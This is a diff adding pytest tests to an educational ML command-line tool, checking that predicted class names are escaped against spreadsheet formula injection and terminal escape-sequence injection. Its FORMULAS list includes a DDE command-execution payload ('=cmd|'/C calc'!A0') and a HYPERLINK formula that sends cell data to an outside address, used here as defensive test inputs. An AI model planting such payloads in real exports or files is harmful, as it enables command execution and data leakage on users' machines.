@@ -1,7 +1,10 @@
 """`tinygrad-edu predict`, and the files of models."""
 
+import csv
 import io
 import json
+import os
+import subprocess
 import tracemalloc
 import warnings
 import zipfile
@@ -10,7 +13,7 @@ from pathlib import Path
 import numpy as np
 import pytest
 
-from tests.cli_helpers import refused, run, trained, write_table
+from tests.cli_helpers import COMMAND, ENVIRONMENT, called, refused, run, trained, write_table
 from tinygrad_edu.cli import files as cli_files
 
 
@@ -244,3 +247,82 @@ def test_files_without_an_end_are_refused(model, monkeypatch):
     for path in ["large.csv", *(["/dev/zero"] if Path("/dev/zero").exists() else [])]:
         refused("predict", path, "data.csv", saying="has over 0.005 GB")
         refused("predict", model, path, saying="has over 0.005 GB")
+
+
+TRAIN = ["train", "data.csv", "--target", "kind", "--classify"]
+FORMULAS = [
+    *("@SUM(1)", "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "-2-3", "+SUM(1)", "-low", "+high"),
+    *("＝SUM(1)", "＠SUM(1)", "＋1", "－1", "=", "==", "@", "@home", "-=1", "+1e", "-1e5+SUM(1)"),
+    *("--=1", "-.", "−SUM(1)", "-1;=2", '=HYPERLINK("http://a/"&A1,"b")'),
+]
+HONEST = [
+    *("-1", "+1", "-1.5", "-.5", "+1e-5", "-1,5", "-1.000,5", "-5%", "-", "+", "--", "+++", "1"),
+    *("'oak'", "a=b", "a@b", "1-2", "a+", "O'Neil", "π", "«a»", "-1."),
+]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_formulas_are_written_so_that_no_spreadsheet_runs_them(name):
+    assert predictions_of(name) == ["'" + name, "oak"]
+
+
+@pytest.mark.parametrize("name", HONEST)
+def test_what_is_no_formula_is_written_as_it_is(name):
+    assert predictions_of(name) == [name, "oak"]
+
+
+def rows_of(path):
+    return [row[0] for row in csv.reader(io.StringIO(Path(path).read_text("utf-8")))]
+
+
+def predictions_of(name):
+    """The classes that are predicted where one is called so, each once, in order."""
+    file = io.StringIO()
+    writer = csv.writer(file)
+    writer.writerow(["x", "kind"])
+    writer.writerows([k, (name, "oak")[k >= 10]] for k in range(20))
+    Path("data.csv").write_text(file.getvalue(), "utf-8")
+    called(*TRAIN, "--epochs", "60", "--learning-rate", "0.1")
+    result = called("predict", "model.npz", "data.csv", "--out", "p.csv")
+    header, *found = rows_of("p.csv")
+    assert header == "predicted_kind"
+    risky = any(each.startswith("'") and each != name for each in found)
+    assert ("Note: a spreadsheet would run" in result.stderr) == risky
+    return list(dict.fromkeys(found))
+
+
+def test_negative_numbers_as_classes_survive_a_round_trip():
+    Path("data.csv").write_text(
+        "x,kind\n" + "".join(f"{k},{(-1, 1)[k >= 10]}\n" for k in range(20))
+    )
+    for _ in range(2):
+        trained("--classify")
+        called("predict", "model.npz", "data.csv", "--out", "p.csv")
+        kinds = rows_of("p.csv")[1:]
+        assert set(kinds) == {"-1", "1"}
+        Path("data.csv").write_text(
+            "x,kind\n" + "".join(f"{k},{kind}\n" for k, kind in enumerate(kinds))
+        )
+
+
+def test_a_terminal_does_not_obey_what_a_class_is_called(model):
+    import pty
+
+    path = resaved({"classes": ["\x1b]0;title\x07\x1b[2Jash", "o\u202eak"]})
+    terminal, end = pty.openpty()
+    done = subprocess.run(
+        [*COMMAND, "predict", path, "data.csv"], stdout=end, stderr=end, env=ENVIRONMENT
+    )
+    os.close(end)
+    shown = b""
+    try:
+        while part := os.read(terminal, 65536):
+            shown += part
+    except OSError:  # the other end is closed
+        pass
+    os.close(terminal)
+    assert done.returncode == 0
+    assert b"\x1b" not in shown
+    assert rb"\x1b]0;title\x07" in shown
+    piped = run("predict", path, "data.csv").stdout
+    assert "\x1b]0;title" in piped  # whoever reads it gets what is so
